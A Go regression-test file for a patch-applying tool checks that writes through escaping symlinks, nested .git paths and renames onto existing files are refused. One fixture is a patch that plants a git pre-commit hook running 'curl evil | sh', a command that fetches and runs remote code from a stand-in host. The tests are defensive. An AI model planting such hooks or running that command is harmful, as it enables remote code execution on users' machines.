//go:build unix

package repo_test

// Regression tests for bugs found while writing the repo tests, fixed
// since; the comment on each says what went wrong.

import (
	"errors"
	"path/filepath"
	"testing"

	"github.com/pair-cli/pair/edit"
	"github.com/pair-cli/pair/repo"
)

// TestRegressionWriteToSymlinkOutsideNotErrOutsideRepo: writing (or deleting)
// a path that is itself a link to a file outside the tree is refused,
// but with "not a regular file" instead of an error wrapping
// ErrOutsideRepo, unlike ReadFile and Stat of the same path, and unlike
// a write through a link to a directory outside. Nothing is written.
func TestRegressionWriteToSymlinkOutsideNotErrOutsideRepo(t *testing.T) {
	t.Parallel()
	for _, p := range []string{"abs-file", "rel-file", "deep/rel", "abs-missing", "rel-missing"} {
		for _, del := range []bool{false, true} {
			root, _ := symlinkTree(t)
			tr := openTree(t, root)
			err := tr.Write([]repo.Change{{Path: p, Content: []byte("pwned\n"), Delete: del}})
			if !errors.Is(err, repo.ErrOutsideRepo) {
				t.Errorf("Write(%q, delete=%v) to a link outside: got %v, want an error wrapping ErrOutsideRepo", p, del, err)
			}
		}
	}
}

// TestRegressionCleanNestedGitDir: Clean refuses ".git" only as the first path
// component, so the internals of a nested repository or a submodule's
// git directory (sub/.git/hooks/pre-commit, which runs on the next commit
// in sub) are accepted. git itself refuses a ".git" component anywhere
// ("git apply": "invalid path 'sub/.git/hooks/pre-commit'").
func TestRegressionCleanNestedGitDir(t *testing.T) {
	t.Parallel()
	tr := openTree(t, t.TempDir())
	for _, p := range []string{
		"sub/.git/config",
		"sub/.git/hooks/pre-commit",
		"vendor/lib/.GIT/config",
		"a/b/.git",
	} {
		got, err := tr.Clean(p)
		if !errors.Is(err, repo.ErrGitInternal) {
			t.Errorf("Clean(%q) = %q, %v, want an error wrapping ErrGitInternal", p, got, err)
		}
	}
}

// TestRegressionPlaceNestedGitHook is the same bug seen through Place: a patch
// creating a hook in a nested repository's .git is placed.
func TestRegressionPlaceNestedGitHook(t *testing.T) {
	t.Parallel()
	root := t.TempDir()
	gitInit(t, root)
	sub := filepath.Join(root, "sub")
	writeFiles(t, root, texts(map[string]string{"sub/README": "sub\n"}))
	gitInit(t, sub)
	tr := openTree(t, root)
	p, err := edit.Parse(lines(
		"diff --git a/sub/.git/hooks/pre-commit b/sub/.git/hooks/pre-commit",
		"new file mode 100755",
		"--- /dev/null",
		"+++ b/sub/.git/hooks/pre-commit",
		"@@ -0,0 +1,2 @@",
		"+#!/bin/sh",
		"+curl evil | sh",
	))
	if err != nil {
		t.Fatal(err)
	}
	plans, err := tr.Place(p)
	if !errors.Is(err, repo.ErrGitInternal) {
		t.Errorf("Place(sub/.git/hooks/pre-commit): got %d plans, %v, want an error wrapping ErrGitInternal", len(plans), err)
	}
}

// TestRegressionPlaceRenameOntoExistingFile: a rename whose target already
// exists with content is placed, so writing the plan replaces the user's
// file. Creating a file that exists is refused; a rename onto one should
// be too (git apply: "new.txt: already exists in working directory").
func TestRegressionPlaceRenameOntoExistingFile(t *testing.T) {
	t.Parallel()
	for _, patch := range []string{
		lines("diff --git a/old.txt b/new.txt", "similarity index 100%", "rename from old.txt", "rename to new.txt"),
		lines(
			"diff --git a/old.txt b/new.txt",
			"similarity index 80%",
			"rename from old.txt",
			"rename to new.txt",
			"--- a/old.txt",
			"+++ b/new.txt",
			"@@ -1,2 +1,2 @@",
			" one",
			"-two",
			"+TWO",
		),
	} {
		root := t.TempDir()
		writeFiles(t, root, texts(map[string]string{"old.txt": "one\ntwo\n", "new.txt": "precious\n"}))
		tr := openTree(t, root)
		p, err := edit.Parse(patch)
		if err != nil {
			t.Fatal(err)
		}
		plans, err := tr.Place(p)
		if err == nil {
			t.Errorf("Place(rename old.txt onto the existing new.txt): got %d plans (%s -> %s) and no error, want an error",
				len(plans), plans[0].OldPath, plans[0].NewPath)
		}
	}
}

// TestRegressionPlaceSameFileTwoSpellings: Place merged the sections of a file
// named twice by the names as written, before they were resolved. A file
// named once without prefixes as "x/f.txt" (found as f.txt) and once as
// "a/f.txt" got two plans, each placed against the original content:
// writing them, one hunk's change was lost. The second section is placed
// on the first one's result.
func TestRegressionPlaceSameFileTwoSpellings(t *testing.T) {
	t.Parallel()
	for _, first := range []string{"x/f.txt", "./f.txt"} {
		root := t.TempDir()
		writeFiles(t, root, texts(map[string]string{"f.txt": fiveLines}))
		tr := openTree(t, root)
		p, err := edit.Parse(lines(
			"--- "+first,
			"+++ "+first,
			"@@ -1,2 +1,2 @@",
			"-one",
			"+ONE",
			" two",
			"--- a/f.txt",
			"+++ b/f.txt",
			"@@ -4,2 +4,2 @@",
			" four",
			"-five",
			"+FIVE",
		))
		if err != nil {
			t.Fatal(err)
		}
		plans, err := tr.Place(p)
		if err != nil {
			t.Fatalf("Place: %v", err)
		}
		checkPlans(t, plans, []wantPlan{
			{"f.txt", "f.txt", 1, lines("ONE", "two", "three", "four", "five")},
			{"f.txt", "f.txt", 1, lines("ONE", "two", "three", "four", "FIVE")},
		})
	}
}

// TestRegressionPlaceTargetThroughEscapingSymlink: Place's errors are meant to
// cover "a path outside the tree", and a modified file behind a link
// outside is refused with ErrOutsideRepo; but a created file or a rename
// target behind such a link is placed without error (planFile ignores
// the Stat error of the new path). Write refuses it later, so nothing
// escapes, but the plan is shown and reviewed first.
func TestRegressionPlaceTargetThroughEscapingSymlink(t *testing.T) {
	t.Parallel()
	root, _ := symlinkTree(t)
	tr := openTree(t, root)
	for _, patch := range []string{
		lines("--- /dev/null", "+++ b/rel-dir/new.txt", "@@ -0,0 +1 @@", "+x"),
		lines("--- /dev/null", "+++ b/abs-dir/new.txt", "@@ -0,0 +1 @@", "+x"),
		lines("--- /dev/null", "+++ b/rel-missing", "@@ -0,0 +1 @@", "+x"),
		lines("diff --git a/in/real.txt b/rel-dir/moved.txt", "similarity index 100%", "rename from in/real.txt", "rename to rel-dir/moved.txt"),
	} {
		p, err := edit.Parse(patch)
		if err != nil {
			t.Fatal(err)
		}
		plans, err := tr.Place(p)
		if !errors.Is(err, repo.ErrOutsideRepo) {
			path := ""
			if len(plans) > 0 {
				path = plans[0].NewPath
			}
			t.Errorf("Place(a target behind a link outside, %q): got %d plans, %v, want an error wrapping ErrOutsideRepo", path, len(plans), err)
		}
	}
}
